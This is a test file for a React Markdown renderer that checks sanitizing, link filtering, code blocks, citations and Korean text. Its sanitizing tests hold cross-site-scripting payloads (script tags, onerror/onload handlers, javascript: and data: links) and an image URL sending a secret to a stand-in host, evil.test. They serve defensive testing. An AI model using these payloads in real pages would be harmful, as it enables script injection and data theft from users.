import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';

import { Markdown, type MarkdownLabels } from './markdown';
import { decodeEntities, safeLinkHref } from './safe-url';

const labels: MarkdownLabels = {
  copy: 'Copy',
  copied: 'Copied',
  copyFailed: 'Copy failed',
  code: 'code',
  table: 'Table',
};

function renderMarkdown(text: string, extra: Partial<Parameters<typeof Markdown>[0]> = {}) {
  return render(
    <div data-testid="out">
      <Markdown text={text} labels={labels} {...extra} />
    </div>,
  );
}

function output(): HTMLElement {
  return screen.getByTestId('out');
}

describe('Markdown sanitizing', () => {
  it.each([
    ['a script element', '<script>alert(1)</script>', 'script'],
    ['an iframe', 'Look: <iframe src="https://evil.test"></iframe>', 'iframe'],
    ['an image with onerror', '<img src=x onerror="alert(1)">', 'img'],
    ['an svg with onload', '<svg onload="alert(1)"><circle r="1"/></svg>', 'svg'],
    ['a style element', '<style>body{display:none}</style>', 'style'],
    ['a form', '<form action="https://evil.test"><input name="p"></form>', 'form'],
  ])('shows %s as text, never as an element', (_case, source, tag) => {
    // Act
    renderMarkdown(`Before\n\n${source}\n\nAfter`);

    // Assert
    expect(output().querySelector(tag)).toBeNull();
    expect(output().textContent).toContain(source.trim());
    const attributes = Array.from(output().querySelectorAll('*')).flatMap((element) =>
      element.getAttributeNames(),
    );
    expect(attributes.filter((name) => /^(on|src|href|style)/i.test(name))).toEqual([]);
  });

  it.each([
    ['javascript:', '[click](javascript:alert(1))'],
    ['JavaScript with a tab', '[click](java\tscript:alert(1))'],
    ['upper case', '[click](JAVASCRIPT:alert(1))'],
    ['data:', '[click](data:text/html;base64,PHNjcmlwdD4=)'],
    ['vbscript:', '[click](vbscript:msgbox(1))'],
    ['an entity-encoded scheme', '[click](&#106;avascript:alert(1))'],
    ['a relative path', '[click](/settings)'],
  ])('drops a %s link target and keeps the text', (_case, source) => {
    // Act
    renderMarkdown(source);

    // Assert
    expect(output().querySelector('a')).toBeNull();
    expect(output().textContent).toContain('click');
  });

  it('keeps http(s) links, opening them in a new tab without referrer', () => {
    // Act
    renderMarkdown('See [the docs](https://docs.aws.amazon.com/bedrock/) and <https://lgm.test>.');

    // Assert
    const links = within(output()).getAllByRole('link');
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://docs.aws.amazon.com/bedrock/',
      'https://lgm.test/',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    }
  });

  it('shows images as links instead of loading them', () => {
    // Act
    renderMarkdown('![chart](https://evil.test/leak?q=secret)');

    // Assert
    expect(output().querySelector('img')).toBeNull();
    expect(within(output()).getByRole('link', { name: 'chart' }).getAttribute('href')).toBe(
      'https://evil.test/leak?q=secret',
    );
  });
});

describe('Markdown rendering', () => {
  it('renders headings, emphasis, lists and inline code', () => {
    // Act
    renderMarkdown('# Title\n\nSome **bold**, *italic* and `code`.\n\n- one\n- two\n\n1. first');

    // Assert
    expect(screen.getByRole('heading', { name: 'Title' }).tagName).toBe('H3');
    expect(output().querySelector('strong')?.textContent).toBe('bold');
    expect(output().querySelector('em')?.textContent).toBe('italic');
    expect(output().querySelector('code')?.textContent).toBe('code');
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual([
      'one',
      'two',
      'first',
    ]);
  });

  it('renders a table with its alignment in a scrollable region', () => {
    // Act
    renderMarkdown('| Region | Price |\n|:--|--:|\n| 서울 | $1.00 |\n| Oregon | $0.80 |');

    // Assert
    const table = screen.getByRole('table');
    expect(
      within(table)
        .getAllByRole('columnheader')
        .map((cell) => cell.textContent),
    ).toEqual(['Region', 'Price']);
    const cells = within(table).getAllByRole('cell');
    expect(cells.map((cell) => cell.textContent)).toEqual(['서울', '$1.00', 'Oregon', '$0.80']);
    expect(cells[1]?.style.textAlign).toBe('right');
    expect(screen.getByRole('region', { name: 'Table' })).toBeTruthy();
  });

  it('renders a fenced code block with its language and a working copy button', async () => {
    // Arrange
    const writeText = jest.fn().mockResolvedValue(undefined);
    Object.assign(navigator, { clipboard: { writeText } });
    renderMarkdown('```python\nprint("<b>hi</b>")\n```');

    // Act
    fireEvent.click(screen.getByRole('button', { name: 'Copy' }));

    // Assert
    const block = screen.getByTestId('code-block');
    expect(within(block).getByText('python')).toBeTruthy();
    expect(block.querySelector('code')?.textContent).toBe('print("<b>hi</b>")');
    expect(block.querySelector('b')).toBeNull();
    expect(writeText).toHaveBeenCalledWith('print("<b>hi</b>")');
    await screen.findByRole('button', { name: 'Copied' });
  });

  it('highlights known languages with classes only', async () => {
    // Act
    renderMarkdown('```javascript\nconst answer = "<img src=x onerror=alert(1)>";\n```');

    // Assert
    await waitFor(() => expect(output().querySelector('code span[class^="hljs-"]')).not.toBeNull());
    const code = output().querySelector('code');
    expect(code?.textContent).toBe('const answer = "<img src=x onerror=alert(1)>";');
    expect(code?.querySelector('img')).toBeNull();
    for (const span of Array.from(code?.querySelectorAll('*') ?? [])) {
      expect(span.tagName).toBe('SPAN');
      expect(span.getAttributeNames()).toEqual(['class']);
    }
  });

  it('resolves character references as text', () => {
    // Act
    renderMarkdown('Fish &amp; chips &lt;3 &#x1F600; &#49;');

    // Assert
    expect(output().textContent).toBe('Fish & chips <3 😀 1');
  });

  it('turns [n] into citation buttons only for citations that exist', () => {
    // Arrange
    const onCitation = jest.fn();
    const citations = new Map([
      ['1', { id: '1', label: 'Source 1: Handbook' }],
      ['2', { id: '2', label: 'Source 2: Policy' }],
    ]);

    // Act
    renderMarkdown('Travel is refunded [1] within 30 days [1, 2]. Not [7] or [x].', {
      citations,
      onCitation,
    });
    fireEvent.click(
      screen.getAllByRole('button', { name: 'Source 1: Handbook' })[0] as HTMLElement,
    );

    // Assert
    expect(screen.getAllByRole('button').map((button) => button.textContent)).toEqual([
      '1',
      '1',
      '2',
    ]);
    expect(output().textContent).toContain('Not [7] or [x].');
    expect(onCitation).toHaveBeenCalledWith('1');
  });

  it('renders Korean text as written', () => {
    // Act
    renderMarkdown('## 요약\n\n**서울** 지사의 출장 규정은 다음과 같습니다 [1].');

    // Assert
    expect(screen.getByRole('heading', { name: '요약' })).toBeTruthy();
    expect(output().textContent).toContain('서울 지사의 출장 규정은 다음과 같습니다 [1].');
  });

  it('renders a half-written answer while it streams', () => {
    // Act
    renderMarkdown('Here is code:\n\n```ts\nconst x =');

    // Assert
    expect(screen.getByTestId('code-block').querySelector('code')?.textContent).toBe('const x =');
  });
});

describe('safeLinkHref', () => {
  it.each([
    ['https://a.test/x?y=1', 'https://a.test/x?y=1'],
    ['http://a.test', 'http://a.test/'],
    ['mailto:someone@a.test', 'mailto:someone@a.test'],
    [' javascript:alert(1)', undefined],
    ['\u0001javascript:alert(1)', undefined],
    ['ftp://a.test', undefined],
    ['//a.test/x', undefined],
    ['#top', undefined],
    ['', undefined],
  ])('%j → %j', (href, expected) => {
    expect(safeLinkHref(href)).toBe(expected);
  });
});

describe('decodeEntities', () => {
  it('leaves unknown entities and invalid code points harmless', () => {
    expect(decodeEntities('&bogus; &#0; &#xD800; &amp;lt;')).toBe('&bogus; \ufffd \ufffd &lt;');
  });
});
